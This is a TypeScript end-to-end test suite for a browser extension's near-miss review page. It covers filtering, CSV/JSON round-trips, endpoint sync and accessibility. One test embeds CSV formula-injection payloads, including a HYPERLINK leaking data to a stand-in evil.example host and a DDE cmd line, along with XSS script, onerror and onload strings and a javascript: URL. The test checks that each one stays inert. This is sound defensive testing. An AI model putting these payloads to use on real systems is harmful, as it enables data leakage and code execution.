/**
 * The team lead's review page end to end (issue 7), in Chromium with the built extension:
 * near misses logged through the sidebar appear; filters narrow the list and live in the URL hash;
 * the exported CSV re-imports to the same records; a hostile CSV (formulas, script tags) imports as
 * plain text; bad rows are listed and nothing is applied until the lead says so; the lead's
 * analysis is saved through the background; the endpoint's list (README, "Review endpoint
 * contract") is fetched by the background with its token and merged; axe-core finds no serious or
 * critical violation.
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { demoTicket } from '../support/fixture-server';
import { generateRecords } from '../support/records';
import { parseCsvImport, recordsToJson } from '../../lib/review/records-io';
import { canonicalJson } from '../../lib/review/merge';
import type { NearMissRecord } from '../../lib/schema';
import { launchExtensionBrowser, saveScreenshot, type ExtensionBrowser } from './harness';

const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

let browser: ExtensionBrowser;
let review: Page;

beforeAll(async () => {
  browser = await launchExtensionBrowser();
  browser.server.route(demoTicket.host, demoTicket.path, demoTicket.file);
  // The endpoint's optional host permission, granted as the Extensions page does.
  await browser.grantHostPermission('http://127.0.0.1/*');
});

afterAll(async () => {
  await browser?.close();
});

async function logFromSidebar(page: Page, category: 'process' | 'systems' | 'human'): Promise<void> {
  await expect.poll(() => page.getByTestId('nm-sidebar').getAttribute('data-ready')).toBe('true');
  if ((await page.getByTestId('nm-tab').getAttribute('aria-expanded')) !== 'true') await page.getByTestId('nm-tab').click();
  // The sidebar ignores untrusted events (a hostile page could script them), and Playwright's
  // selectOption dispatches synthetic ones: pick by typing the option's first letter instead.
  await page.getByTestId('nm-category').focus();
  await page.keyboard.press(category[0]!.toUpperCase());
  await expect.poll(() => page.getByTestId('nm-category').inputValue()).toBe(category);
  await page.getByTestId('nm-log').click();
  await page.getByTestId('nm-logged').waitFor();
}

const rows = () => review.getByTestId('nm-review-row');
const count = async () => Number(await review.getByTestId('nm-review-count').getAttribute('data-count'));

async function waitLoaded(page: Page): Promise<void> {
  await page.getByTestId('nm-review').waitFor();
  await expect.poll(() => page.locator('.nm-review').getAttribute('data-loading')).toBe('false');
}

async function downloadText(page: Page, testId: string): Promise<{ name: string; text: string }> {
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId(testId).click()]);
  const path = await download.path();
  return { name: download.suggestedFilename(), text: readFileSync(path, 'utf8') };
}

async function importFile(name: string, text: string, mimeType: string): Promise<void> {
  await review.getByTestId('nm-import').setInputFiles({ name, mimeType, buffer: Buffer.from(text, 'utf8') });
}

async function exportedJson(): Promise<NearMissRecord[]> {
  const { text } = await downloadText(review, 'nm-export-json');
  return (JSON.parse(text) as { records: NearMissRecord[] }).records;
}

describe('review page', () => {
  it('shows the near misses logged through the sidebar, opened from the sidebar link', async () => {
    const ticket = await browser.context.newPage();
    await ticket.goto(browser.server.url(demoTicket.host, demoTicket.path));
    await logFromSidebar(ticket, 'process');
    // A second log of the same ticket after a reload: a second record, as an agent coming back would make.
    await ticket.reload();
    await logFromSidebar(ticket, 'human');

    const [opened] = await Promise.all([browser.context.waitForEvent('page'), ticket.getByTestId('nm-open-review').click()]);
    review = opened;
    await waitLoaded(review);
    expect(new URL(review.url()).pathname).toBe('/review.html');
    await expect.poll(() => rows().count()).toBe(2);
    expect(await count()).toBe(2);
    const texts = await rows().allTextContents();
    expect(texts.every((text) => text.includes('zendesk #1042'))).toBe(true);
    expect(texts.some((text) => text.includes('Process'))).toBe(true);
    expect(texts.some((text) => text.includes('Human connection') || text.includes('Human'))).toBe(true);
    await ticket.close();
  });

  it('narrows the list by category, and keeps the view in a shareable URL hash', async () => {
    await review.getByTestId('nm-review-filter-category').selectOption('process');
    await expect.poll(() => rows().count()).toBe(1);
    expect(await count()).toBe(1);
    // The hash follows the render (an effect), so wait for it rather than read it at once.
    await expect.poll(() => new URL(review.url()).hash).toBe('#category=process');
    // The shared link opens the same view.
    const shared = await browser.context.newPage();
    await shared.goto(review.url());
    await waitLoaded(shared);
    await expect.poll(() => shared.getByTestId('nm-review-row').count()).toBe(1);
    expect(await shared.getByTestId('nm-review-filter-category').inputValue()).toBe('process');
    await shared.close();
    await review.getByTestId('nm-review-filter-category').selectOption('');
    await expect.poll(() => rows().count()).toBe(2);
  });

  it('exports an RFC 4180 CSV that re-imports to the same records', async () => {
    const csv = await downloadText(review, 'nm-export-csv');
    expect(csv.name).toMatch(/^near-misses-\d{4}-\d{2}-\d{2}\.csv$/);
    const body = csv.text.replace(/^\uFEFF/, '');
    expect(body.startsWith('id,schemaVersion,revision,createdAt,')).toBe(true);
    expect(body.endsWith('\r\n')).toBe(true);
    // Blameless by default: no agent column at all.
    expect(body.split('\r\n')[0]).not.toContain('agentName');
    const json = await exportedJson();
    expect(json).toHaveLength(2);
    // Read back in Node with the same reader the page uses: the very records the JSON export holds.
    const parsed = await parseCsvImport(body);
    expect(parsed.problems).toEqual([]);
    expect(parsed.records.map(canonicalJson).sort()).toEqual(json.map(canonicalJson).sort());
    // And in the page: the background finds every record already there, field for field.
    await importFile(csv.name, csv.text, 'text/csv');
    await expect.poll(() => review.getByTestId('nm-import-result').textContent()).toBe('0 added, 0 updated, 2 already here, 0 kept (the stored version was newer).');
    await waitLoaded(review);
    expect(await count()).toBe(2);
  });

  it('imports a CSV crafted with formulas and script tags as plain text: nothing runs, no element is made', async () => {
    const scriptsBefore = await review.evaluate(() => document.scripts.length);
    const hostile =
      'id,createdAt,helpdesk,ticketId,ticketUrl,signal,contributed,recommendedChange,segment,evidence\r\n' +
      '00000000-0000-4000-8000-0000000000e1,2026-02-01T10:00:00.000Z,zendesk,E1,https://acme.zendesk.com/agent/tickets/1,passive,' +
      '"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")","+cmd|\' /C calc\'!A0",@SUM(1+1),"<script>window.__nmPwned=1</script>"\r\n' +
      '00000000-0000-4000-8000-0000000000e2,2026-02-02T10:00:00.000Z,zendesk,E2,https://acme.zendesk.com/agent/tickets/2,great_but,' +
      '"<img src=x onerror=""window.__nmPwned=2"">",-2+3,\'=already escaped,"<b>bold</b> <svg onload=window.__nmPwned=3>"\r\n';
    await importFile('hostile.csv', hostile, 'text/csv');
    await expect.poll(() => review.getByTestId('nm-import-result').textContent()).toBe('2 added, 0 updated, 0 already here, 0 kept (the stored version was newer).');
    await waitLoaded(review);

    await review.getByTestId('nm-review-search').fill('E1');
    await expect.poll(() => rows().allTextContents()).toEqual([expect.stringContaining('zendesk #E1')]);
    await rows().first().click();
    expect(await rows().first().textContent()).toContain('<script>window.__nmPwned=1</script>');
    const analysis = review.getByTestId('nm-analysis');
    expect(await analysis.getByTestId('nm-analysis-quote').textContent()).toBe('<script>window.__nmPwned=1</script>');
    expect(await review.locator('#nm-contributed').inputValue()).toBe('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
    expect(await review.locator('#nm-recommended').inputValue()).toBe("+cmd|' /C calc'!A0");
    expect(await analysis.textContent()).toContain('@SUM(1+1)');

    await review.getByTestId('nm-review-search').fill('E2');
    await expect.poll(() => rows().allTextContents()).toEqual([expect.stringContaining('zendesk #E2')]);
    await rows().first().click();
    expect(await review.getByTestId('nm-analysis-quote').textContent()).toBe('<b>bold</b> <svg onload=window.__nmPwned=3>');
    // The escape on import is stripped exactly once: the cell `'=already escaped` is the text `=already escaped`.
    expect(await review.getByTestId('nm-analysis').textContent()).toContain('=already escaped');

    await review.waitForTimeout(300);
    expect(await review.evaluate(() => (window as unknown as { __nmPwned?: number }).__nmPwned)).toBeUndefined();
    expect(await review.evaluate(() => document.scripts.length)).toBe(scriptsBefore);
    expect(await review.evaluate(() => document.querySelectorAll('main img, main svg, main b, main script').length)).toBe(0);

    // Exported again, each formula cell carries the escape.
    await review.getByTestId('nm-review-search').fill('');
    await review.getByTestId('nm-review-filter-category').selectOption('none');
    await expect.poll(() => rows().count()).toBe(2);
    const again = (await downloadText(review, 'nm-export-csv')).text;
    expect(again).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(again).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(again).toContain(",'@SUM(1+1),");
    expect(again).toContain(",'-2+3,");
    expect(again).toContain(",'=already escaped,");
    await review.getByTestId('nm-review-filter-category').selectOption('');
    await expect.poll(() => count()).toBe(4);
  });

  it('lists the bad rows of a file by line and imports nothing until the lead chooses', async () => {
    const before = await count();
    const good = generateRecords(2, 99);
    const csvRows = (await import('../../lib/review/records-io')).recordsToCsv(good, { blameless: true }).split('\r\n');
    const bad = csvRows[1]!.replace('https://acme.zendesk.com', 'javascript:alert(1)//acme.zendesk.com');
    const file = [csvRows[0], bad, csvRows[2], ''].join('\r\n');
    await importFile('mixed.csv', file, 'text/csv');
    await expect.poll(() => review.getByTestId('nm-import-report').getAttribute('data-phase')).toBe('review');
    expect(await review.getByTestId('nm-import-problems').textContent()).toBe('line 2: ticketUrl: must be an https:// address (http:// only for localhost or 127.0.0.1)');
    await review.waitForTimeout(200);
    expect(await count()).toBe(before);
    await review.getByTestId('nm-import-apply').click();
    await expect.poll(() => review.getByTestId('nm-import-result').textContent()).toBe('1 added, 0 updated, 0 already here, 0 kept (the stored version was newer). 1 invalid rows were left out.');
    await waitLoaded(review);
    expect(await count()).toBe(before + 1);
  });

  it("saves the lead's analysis through the background", async () => {
    await review.getByTestId('nm-review-filter-category').selectOption('process');
    await expect.poll(() => rows().count()).toBe(1);
    await rows().first().click();
    const analysis = review.getByTestId('nm-analysis');
    await analysis.getByRole('radio', { name: 'Too slow', exact: true }).check();
    await review.locator('#nm-recommended').fill('Approve refunds under $50 without a second sign-off');
    await review.getByTestId('nm-analysis-status').selectOption('in_progress');
    await review.getByTestId('nm-analysis-outcome').selectOption('recovered');
    await review.getByTestId('nm-analysis-save').click();
    await expect.poll(() => review.getByTestId('nm-analysis-message').textContent()).toBe('Saved.');
    const id = await analysis.getAttribute('data-id');
    // A fresh page reads it back from the background's history.
    await review.reload();
    await waitLoaded(review);
    await expect.poll(() => review.getByTestId('nm-analysis').getAttribute('data-id')).toBe(id);
    const saved = (await exportedJson()).find((r) => r.id === id);
    expect(saved).toMatchObject({ category: 'process', factor: 'too_slow', recommendedChange: 'Approve refunds under $50 without a second sign-off', changeStatus: 'in_progress', outcome: 'recovered' });
    await review.getByTestId('nm-review-filter-category').selectOption('');
  });

  it("fetches the endpoint's list with ?since= and the bearer token, following next, and merges it", async () => {
    const listed = generateRecords(3, 5);
    const seen: Array<{ url: string; auth: string | undefined }> = [];
    const server: Server = createServer((request, response) => {
      seen.push({ url: request.url ?? '', auth: request.headers.authorization });
      const since = new URL(request.url ?? '/', 'http://127.0.0.1').searchParams.get('since');
      const body = since === null ? { records: listed.slice(0, 2), next: 'c2' } : since === 'c2' ? { records: [listed[2], { id: 'not a record' }], next: 'c3' } : { records: [], next: 'c3' };
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const port = (server.address() as AddressInfo).port;
      // The host permission was granted in beforeAll (headless Chromium cannot answer the prompt
      // the Save click raises); the endpoint is saved as a team would.
      const options = await browser.context.newPage();
      await options.goto(browser.extensionUrl('options.html'));
      await options.getByTestId('nm-endpoint-url').fill(`http://127.0.0.1:${port}/near-misses`);
      await options.getByTestId('nm-endpoint-format').selectOption('json');
      await options.getByTestId('nm-auth-token').fill('review-token');
      await options.getByTestId('nm-save').click();
      await expect.poll(() => options.getByTestId('nm-endpoint-message').getAttribute('data-ok'), { timeout: 10_000 }).toBe('true');
      await options.close();
      await review.reload();
      await waitLoaded(review);
      const before = await count();
      await review.getByTestId('nm-sync-endpoint').click();
      await expect.poll(() => review.getByTestId('nm-review-notice').textContent()).toContain('Fetched 4 records from the endpoint: 3 new, 0 updated.');
      expect(await review.getByTestId('nm-review-notice').textContent()).toContain('1 records were invalid and left out: page 2, record 2: ');
      await waitLoaded(review);
      expect(await count()).toBe(before + 3);
      expect(seen).toEqual([
        { url: '/near-misses', auth: 'Bearer review-token' },
        { url: '/near-misses?since=c2', auth: 'Bearer review-token' },
        { url: '/near-misses?since=c3', auth: 'Bearer review-token' },
      ]);
      // The next fetch starts from the stored cursor, and finds nothing new.
      seen.length = 0;
      await review.getByTestId('nm-sync-endpoint').click();
      await expect.poll(() => review.getByTestId('nm-review-notice').textContent()).toBe('Fetched 0 records from the endpoint: 0 new, 0 updated.');
      expect(seen.map((s) => s.url)).toEqual(['/near-misses?since=c3']);
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  it('has no serious or critical axe violations in light and dark, charts drawn, with screenshots', async () => {
    // A realistic team's worth of history for the charts and the screenshots.
    await importFile('team.json', recordsToJson(generateRecords(240, 11, Date.now()), { blameless: true }), 'application/json');
    await expect.poll(() => review.getByTestId('nm-import-result').textContent()).toContain('240 added');
    await waitLoaded(review);
    await review.getByRole('button', { name: 'Close' }).click();
    await review.setViewportSize({ width: 1280, height: 1720 });
    await rows().nth(2).click();
    await expect.poll(() => review.getByTestId('nm-review-charts').getAttribute('data-drawn')).toBe('true');
    await expect.poll(() => review.evaluate(() => [...document.querySelectorAll('canvas')].every((c) => c.width > 0 && c.height > 0))).toBe(true);
    await review.waitForTimeout(300);

    try {
      await review.addScriptTag({ content: axeSource });
    } catch {
      // The extension page's CSP refuses inline scripts; evaluating the source defines the same global.
    }
    if (!(await review.evaluate(() => 'axe' in window))) await review.evaluate(axeSource);
    const audit = () =>
      review.evaluate(async () => {
        const axe = (window as unknown as { axe: { run(context: unknown, options: unknown): Promise<{ violations: Array<{ id: string; impact: string; nodes: Array<{ target: unknown }> }> }> } }).axe;
        const result = await axe.run(document, { resultTypes: ['violations'] });
        return result.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.length, first: JSON.stringify(v.nodes[0]?.target) }));
      });
    const serious = (list: Awaited<ReturnType<typeof audit>>) => list.filter((v) => v.impact === 'serious' || v.impact === 'critical');

    const light = await audit();
    await saveScreenshot(review, 'review-light');
    await review.emulateMedia({ colorScheme: 'dark' });
    await review.waitForTimeout(400); // charts redraw with the dark palette
    const dark = await audit();
    await saveScreenshot(review, 'review-dark');
    await review.emulateMedia({ colorScheme: 'light' });
    console.log('axe (all impacts), light:', JSON.stringify(light), 'dark:', JSON.stringify(dark));
    expect(serious(light)).toEqual([]);
    expect(serious(dark)).toEqual([]);
  });
});
